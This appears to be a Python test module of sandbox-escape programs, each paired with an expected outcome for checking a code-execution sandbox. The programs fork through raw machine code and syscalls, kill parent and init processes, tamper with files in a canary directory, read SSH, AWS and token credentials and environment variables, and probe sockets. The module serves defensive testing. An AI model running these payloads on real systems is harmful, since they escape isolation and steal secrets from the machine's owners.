"""Programs that leave the sandbox in less usual ways: processes, files, secrets, sockets."""

from attacks.right import RIGHT

ATTACKS: dict[str, tuple[str, str]] = {}

# processes
ATTACKS["machine_code_in_the_32_bit_table"] = (
    "fail_or_timeout",
    """
import ctypes, mmap
# mov eax, 2 (fork); int 0x80; ret. Then x32: mov eax, 0x40000039; syscall; ret.
CODES = [b'\\xb8\\x02\\0\\0\\0\\xcd\\x80\\xc3', b'\\xb8\\x39\\0\\0\\x40\\x0f\\x05\\xc3']
def weighted_sum(xs):
    for code in reversed(CODES):
        m = mmap.mmap(-1, 4096, prot=7)
        m.write(code)
        pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
        if pid == 0:
            ctypes.CDLL(None).sleep(6)
            ctypes.CDLL(None)._exit(0)
        if pid > 0: return 'forked'
    return -1
""",
)
ATTACKS["vfork_and_spawn"] = (
    "fail",
    """
import _posixsubprocess, ctypes, os, pty, posix
libc = ctypes.CDLL(None)
def weighted_sum(xs):
    ways = [lambda: posix.posix_spawn('/bin/sh', ['sh', '-c', 'echo x > @CANARY_DIR@/spawned'], {}), posix.forkpty, pty.fork,
            lambda: libc.syscall(58), lambda: libc.popen(b'echo x > @CANARY_DIR@/popen', b'r'),
            lambda: libc.system(b'(sleep 2; echo x > @CANARY_DIR@/system) &'), lambda: libc.daemon(0, 0),
            lambda: libc.clone(ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 0), None, 17, None),
            lambda: libc.syscall(272, 0x10000000), lambda: libc.syscall(308, 0, 0), lambda: libc.setsid(), lambda: libc.setpgid(0, 0)]
    for way in ways:
        try:
            if way() == 0: libc._exit(0)
        except BaseException: pass
    return -1
""",
)
ATTACKS["pools_of_processes"] = (
    "fail_or_timeout",
    """
import concurrent.futures, os
os.register_at_fork(before=lambda: None, after_in_child=lambda: open('@CANARY_DIR@/child', 'w'))
def weighted_sum(xs):
    with concurrent.futures.ProcessPoolExecutor(2) as pool: return sum(pool.map(abs, xs)) - 1
""",
)
ATTACKS["signals_by_timers_and_queues"] = (
    "fail",
    """
import ctypes, posix, signal, struct
libc = ctypes.CDLL(None)
def weighted_sum(xs):
    info = ctypes.create_string_buffer(struct.pack('=iii', signal.SIGTERM, 0, -1) + b'\\0' * 116)
    for pid in (posix.getppid(), 1, 2, 3):
        if pid == posix.getpid(): continue
        libc.syscall(129, pid, signal.SIGTERM, info)
        libc.syscall(297, pid, pid, signal.SIGTERM, info)
        libc.syscall(200, pid, signal.SIGTERM)
        fd = libc.syscall(434, pid, 0)
        libc.syscall(424, fd, signal.SIGTERM, 0, 0)
        libc.syscall(438, fd, 0, 0)
        libc.killpg(pid, signal.SIGTERM)
    libc.prctl(1, 0)
    libc.prctl(4, 1)
    libc.prctl(36, 1)
    return -1
""",
)

# files
ATTACKS["reaches_files_by_handles"] = (
    "fail",
    """
import ctypes, fcntl, mmap, os, posix
libc = ctypes.CDLL(None)
D = '@CANARY_DIR@'
def relative():
    top = os.open(D, os.O_PATH)
    posix.close(posix.open('keep.txt', os.O_RDWR | os.O_TRUNC, dir_fd=top))
def by_the_root(root):
    open(root + D + '/by-the-root', 'w').write('x')
def exchange():
    open('mine', 'w').write('x')
    libc.syscall(316, -100, b'mine', -100, (D + '/keep.txt').encode(), 2)
def shared_map():
    fd = os.open(D + '/keep.txt', os.O_RDWR)
    mmap.mmap(fd, 4)[0] = 0
def times():
    fd = os.open(D + '/keep.txt', os.O_RDONLY)
    libc.syscall(280, fd, None, None, 0)
    fcntl.flock(fd, fcntl.LOCK_EX)
    libc.syscall(452, -100, (D + '/keep.txt').encode(), 0o777, 0)
    libc.syscall(77, fd, 0)
    libc.syscall(285, fd, 2, 0, 100)
def copied():
    fd = os.open(D + '/keep.txt', os.O_WRONLY)
    os.sendfile(fd, os.open('mine', os.O_RDONLY), 0, 1)
def unnamed():
    fd = os.open('.', os.O_TMPFILE | os.O_RDWR, 0o600)
    libc.linkat(fd, b'', -100, (D + '/unnamed').encode(), 0x1000)
    libc.linkat(-100, b'/proc/self/fd/%d' % fd, -100, (D + '/unnamed').encode(), 0x400)
WAYS = [relative, *[lambda root=r: by_the_root(root) for r in ('/proc/self/root', '/proc/1/root', '/proc/self/cwd/..', '/.', '//')],
        exchange, shared_map, times, copied, unnamed, lambda: posix.chroot(D), lambda: posix.chdir(D) or open('in', 'w'),
        lambda: libc.shm_open(b'/swallow-left-behind', 0o102, 0o600), lambda: libc.sem_open(b'/swallow-left-behind', 0o100, 0o600, 1),
        lambda: os.makedirs(D + '/a/b'), lambda: libc.mount(b'tmpfs', D.encode(), b'tmpfs', 0, None)]
def weighted_sum(xs):
    for way in WAYS:
        try: way()
        except Exception: pass
    return -1
""",
)
ATTACKS["writes_by_libraries"] = (
    "fail",
    """
import dbm, logging.handlers, pathlib, shelve, shutil, tarfile, tempfile, zipfile
D = '@CANARY_DIR@'
WAYS = [lambda: shelve.open(D + '/s').update(a=1), lambda: dbm.open(D + '/d', 'c'), lambda: pathlib.Path(D, 'keep.txt').unlink(),
        lambda: pathlib.Path(D, 'p').write_text('x'), lambda: shutil.copy('/etc/ld.so.cache', D),
        lambda: tempfile.NamedTemporaryFile(dir=D, delete=False), lambda: tempfile.mkdtemp(dir=D), lambda: zipfile.ZipFile(D + '/z', 'w'),
        lambda: tarfile.open(D + '/t', 'w'), lambda: logging.FileHandler(D + '/l'), lambda: shutil.make_archive(D + '/m', 'zip', '.'),
        lambda: pathlib.Path(D, 'keep.txt').rename('mine'), lambda: pathlib.Path(D, 'keep.txt').chmod(0), lambda: pathlib.Path(D, 'keep.txt').touch()]
def weighted_sum(xs):
    for way in WAYS:
        try: way()
        except Exception: pass
    return -1
""",
)
ATTACKS["leaves_a_core"] = (
    "fail",
    """
import ctypes, os, posix
libc = ctypes.CDLL(None)
def weighted_sum(xs):
    libc.prctl(4, 1, 0, 0, 0)
    libc.setrlimit(4, (ctypes.c_uint64 * 2)(1 << 40, 1 << 40))
    os.abort()
""",
)

# secrets
ATTACKS["asks_the_interpreter_and_the_c_library"] = (
    "pass",
    f"""
import ctypes, gc, os, sys
def found():
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    seen = [libc.getenv(b'OPENAI_API_KEY') or b'', repr(sys.orig_argv).encode(), repr(sys.argv).encode(), repr(sys.flags).encode()]
    for o in gc.get_objects():
        if isinstance(o, dict): seen += [v.encode('utf-8', 'replace') for v in [*o.values()] if isinstance(v, str)]
    for name in ('~/.netrc', '~/.aws/credentials', '~/.ssh/id_rsa', '~/.cache/huggingface/token', '/run/secrets', '/var/run/secrets/x',
                 '/root/.bash_history', '/proc/keys', '/proc/self/environ', '/proc/sys/kernel/core_pattern', '/proc/self/mountinfo'):
        try: seen.append(open(os.path.expanduser(name), 'rb').read())
        except OSError: pass
    for key in (-1, -2, -3, -4, -5): seen.append(str(libc.syscall(250, 11, key, None, 0)).encode())
    return [s for s in seen if b'sk-' + b'canary' in s]
def weighted_sum(xs):
    if found(): raise ValueError(found())
    return {RIGHT}
""",
)
ATTACKS["sends_what_it_finds_in_its_messages"] = (
    "fail",
    """
import os
def weighted_sum(xs): raise RuntimeError(repr(dict(os.environ)) + open('/proc/%d/environ' % os.getppid()).read())
""",
)

# network
ATTACKS["families_of_sockets"] = (
    "fail",
    """
import _socket, ctypes, socket
P = int('@CANARY_PORT@')
def weighted_sum(xs):
    made = []
    for family in range(0, 46):
        for kind in (1, 2, 3, 5, 1 | 0o4000, 2 | 0o2000000):
            try: made.append(_socket.socket(family, kind, 0))
            except OSError: pass
    for family, kind in ((1, 5), (1, 2), (1, 1 | 0o4000), (2, 1), (16, 3)):
        try:
            a, b = socket.socketpair(family, kind)
            if kind & 7 != 1: made.append(a)
            for to in ('\\0canary-%d' % P, '\\0canary-dgram-%d' % P): a.sendmsg([b'x'], [], 0, to)
        except OSError: pass
    for s in made:
        for to in (('127.0.0.1', P), '\\0canary-%d' % P, '\\0canary-dgram-%d' % P):
            for way in (s.connect, lambda to: s.sendto(b'x', 0x20000000, to), lambda to: s.sendto(b'x', to), s.bind):
                try: way(to)
                except (OSError, TypeError): pass
    return -1 if not made else 'sockets: %r' % made
""",
)
ATTACKS["clients_of_the_library"] = (
    "fail_or_timeout",
    """
import asyncio, http.client, urllib.request, smtplib, ftplib, xmlrpc.client, socketserver
P = int('@CANARY_PORT@')
WAYS = [lambda: urllib.request.urlopen('http://127.0.0.1:%d/' % P, timeout=0.2), lambda: smtplib.SMTP('127.0.0.1', P, timeout=0.2),
        lambda: http.client.HTTPConnection('127.0.0.1', P, timeout=0.2).connect(), lambda: ftplib.FTP().connect('127.0.0.1', P, 0.2),
        lambda: asyncio.run(asyncio.open_connection('127.0.0.1', P)), lambda: asyncio.run(asyncio.open_unix_connection('\\0canary-%d' % P)),
        lambda: xmlrpc.client.ServerProxy('http://127.0.0.1:%d' % P).x(), lambda: socketserver.TCPServer(('127.0.0.1', 0), None)]
def weighted_sum(xs):
    for way in WAYS:
        try: way()
        except Exception: pass
    return -1
""",
)
